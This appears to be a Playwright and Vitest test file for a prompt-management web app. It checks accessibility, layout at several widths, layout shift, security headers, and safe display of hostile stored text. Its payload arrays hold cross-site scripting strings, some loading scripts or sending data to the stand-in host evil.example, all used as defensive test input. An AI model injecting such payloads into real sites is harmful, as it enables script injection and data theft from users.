/** Every page: fit for everybody (axe), in both themes and at three widths, and harmless whatever is stored. */
import axe from "axe-core";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { api, launch, open, type Platform, startPlatform } from "./harness";

const PAYLOADS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(2)>",
  '"><svg onload=alert(3)>',
  "javascript:alert(4)",
  "<iframe src='javascript:alert(5)'></iframe>",
  "</textarea></pre><script src=https://evil.example/x.js></script>",
  "{{constructor.constructor('alert(6)')()}}",
  "<a href='javascript:alert(7)' autofocus onfocus=alert(8)>x</a>",
  "<style>*{background:url(https://evil.example/?)}</style>",
  "<math><mi//xlink:href='data:x,<script>alert(9)</script>'>",
];
const TAGS = ["img", "svg", "video", "audio", "iframe", "object", "embed", "input", "details", "marquee", "body", "form", "button", "select"];
const HANDLERS = ["src=x onerror=alert(1)", "onload=alert(1)", "autofocus onfocus=alert(1)", "open ontoggle=alert(1)", "onpointerenter=alert(1)", "style=animation:x onanimationstart=alert(1)", "src=javascript:alert(1)", "href=javascript:alert(1)", "srcdoc='<script>alert(1)</script>'", "data=https://evil.example/x"];
/** For fields of some hundred characters, and all 150 for those that take more. */
const ALL = PAYLOADS.join(" ");
const MORE = [...PAYLOADS, ...TAGS.flatMap((tag) => HANDLERS.map((handler) => `<${tag} ${handler}>`))].join("\n");

let platform: Platform;
let browser: Browser;
let paths: string[];

beforeAll(async () => {
  [platform, browser] = await Promise.all([startPlatform(), launch()]);
  const there = api(platform);
  // Every field that takes free text, on every kind of thing.
  const inputs = { name: { type: "string", required: false, description: ALL, default: ALL, enum: [ALL, "x"] }, data: { type: "object", required: false, description: ALL, default: { a: ALL } } };
  const harmless = MORE.replace(/\{\{.*?\}\}/g, "");
  await there.post("/prompts", { id: "evil", template: harmless, description: ALL, inputs, metadata: { tags: [ALL.slice(0, 60)], note: MORE }, message: ALL.slice(0, 300) });
  await there.put("/prompts/evil", { template: `${harmless} {{ name }}`, description: `${ALL} 2`, inputs, model: { provider: "openai", name: "<b>m</b>" }, message: "<img src=x onerror=alert(1)>" });
  await there.post("/prompts", { id: "evil-chat", messages: PAYLOADS.filter((text) => !text.includes("{{")).map((content) => ({ role: "user", content })) });
  await there.post("/parts", { id: "evil/part", template: harmless, description: ALL });
  await there.put("/prompts/evil/labels/production", { version: 1, message: ALL.slice(0, 300) });
  const asked = await there.post("/prompts/evil/label-requests", { label: "production", version: 2, message: ALL.slice(0, 300) });
  await there.post(`/label-requests/${String(asked.id)}/comments`, { text: ALL });
  await there.post("/executions", [{ prompt_id: "evil", version_number: 1, provider: "<b>p</b>", model: "<img src=x onerror=alert(1)>", status: "error", error: { type: "<b>", message: ALL }, inputs: { name: MORE }, messages: [{ role: "user", content: MORE }], output: MORE, user: "<svg onload=alert(1)>", metadata: { x: MORE }, input_tokens: 3, output_tokens: 4, latency_ms: 5 }]);
  await there.post("/api-keys", { name: "<img src=x onerror=alert(1)>" });
  const run = (await there.get<{ id: string }[]>("/executions"))[0]?.id;
  const me = (await (await fetch(`${platform.address}/api/me`)).json()) as { workspaces: { id: string }[] };
  const workspace = me.workspaces[0]?.id;
  const settings = ["general", "keys", "labels", "providers", "budget", "retention", "audit"].map((page) => `/p/default/settings/${page}`);
  paths = ["/p/default/prompts", "/p/default/prompts/new", "/p/default/prompts/evil", "/p/default/prompts/evil-chat", "/p/default/prompts/evil/history", "/p/default/prompts/evil/run", "/p/default/parts", "/p/default/parts/evil/part", "/p/default/runs", `/p/default/runs/${run}`, "/p/default/stats", "/p/default/requests", ...settings, ...["projects", "members", "general", "audit"].map((page) => `/w/${workspace}/${page}`), "/invite", "/p/default/nowhere"];
});
afterAll(async () => {
  await browser?.close();
  await platform?.stop();
});

const settled = async (page: Page, path: string) => {
  await page.goto(`${platform.address}${path}`);
  await page.locator("h1").first().waitFor();
  await page.waitForFunction(() => !document.querySelector('[aria-label="Loading"], .skeleton'));
};

describe("every page", () => {
  test.each(["light", "dark"] as const)("has no fault that axe finds, %s", async (theme) => {
    const { page, context } = await open(browser, platform, { theme });
    const faults: string[] = [];
    for (const path of paths) {
      await settled(page, path);
      await page.evaluate(axe.source);
      const found = await page.evaluate(async () => {
        const run = (window as unknown as { axe: { run: () => Promise<{ violations: { id: string; nodes: { html: string; failureSummary?: string }[] }[] }> } }).axe;
        return (await run.run()).violations.map((one) => `${one.id}: ${one.nodes[0]?.html.slice(0, 160)} ${one.nodes[0]?.failureSummary?.slice(0, 200)}`);
      });
      faults.push(...found.map((fault) => `${path} ${fault}`));
    }
    await context.close();
    expect(faults).toEqual([]);
  });

  test.each([360, 1280, 2560, 3840])("fits a screen of %i pixels", async (width) => {
    const { page, context } = await open(browser, platform, { width });
    const wide: string[] = [];
    for (const path of paths) {
      await settled(page, path);
      const over = await page.evaluate(() => {
        const main = document.querySelector("main");
        return Math.max(document.documentElement.scrollWidth - window.innerWidth, (main?.scrollWidth ?? 0) - (main?.clientWidth ?? 0));
      });
      if (over > 0) wide.push(`${path}: ${over} pixels too wide`);
    }
    await context.close();
    expect(wide).toEqual([]);
  });

  test("does not move once it is there", async () => {
    const { page, context } = await open(browser, platform);
    await page.addInitScript(() => {
      const seen: string[] = [];
      (window as unknown as { shifts: string[] }).shifts = seen;
      type Shift = PerformanceEntry & { value: number; hadRecentInput: boolean; sources: { node: Node | null }[] };
      new PerformanceObserver((list) => {
        for (const entry of list.getEntries() as Shift[])
          if (!entry.hadRecentInput) seen.push(`${entry.value.toFixed(4)} ${entry.sources.map(({ node }) => (node instanceof HTMLElement ? `${node.tagName}.${node.className.slice(0, 40)}` : node?.nodeName)).join(" | ")}`);
      }).observe({ type: "layout-shift", buffered: true });
    });
    const moved: string[] = [];
    for (const path of paths) {
      await settled(page, path);
      await page.waitForTimeout(400);
      const shifts = await page.evaluate(() => (window as unknown as { shifts: string[] }).shifts);
      // Above 0.1 a page counts as restless (web.dev, Cumulative Layout Shift); ours move by a hundredth at most.
      if (shifts.reduce((sum, shift) => sum + parseFloat(shift), 0) > 0.01) moved.push(`${path}: ${shifts.join("; ")}`);
    }
    await context.close();
    expect(moved).toEqual([]);
  });

  test("shows hostile texts as texts: no dialog, no violation, no request to anybody else", async () => {
    const { page, context, wrong } = await open(browser, platform);
    for (const path of paths) {
      await settled(page, path);
      for (const details of await page.locator("summary").all()) await details.click();
      if (path.endsWith("/requests")) await page.getByRole("button", { name: /evil/ }).click();
      if (path.endsWith("/prompts/evil")) await page.getByRole("button", { name: "As YAML" }).click();
      await page.waitForTimeout(150);
    }
    expect(await page.evaluate(() => document.querySelectorAll("script:not([src^='/assets/'])").length)).toBe(0);
    await context.close();
    expect(wrong).toEqual([]);
  });

  test("is answered with the same policy, errors and files included", async () => {
    for (const path of [...paths, "/"]) {
      const answer = await fetch(`${platform.address}${path}`);
      const policy = answer.headers.get("content-security-policy") ?? "";
      expect(policy, path).toMatch(/default-src 'none'; script-src 'self';.*frame-ancestors 'none'.*require-trusted-types-for 'script'/);
      expect(policy).not.toMatch(/unsafe|https?:/);
    }
    for (const path of ["/", "/assets/nothing.js", "/favicon.svg", "/api/nothing"]) {
      const { headers } = await fetch(`${platform.address}${path}`);
      expect(headers.get("x-content-type-options")).toBe("nosniff");
      expect(headers.get("referrer-policy")).toBe("no-referrer");
      expect(headers.get("cross-origin-opener-policy")).toBe("same-origin");
    }
  });
});
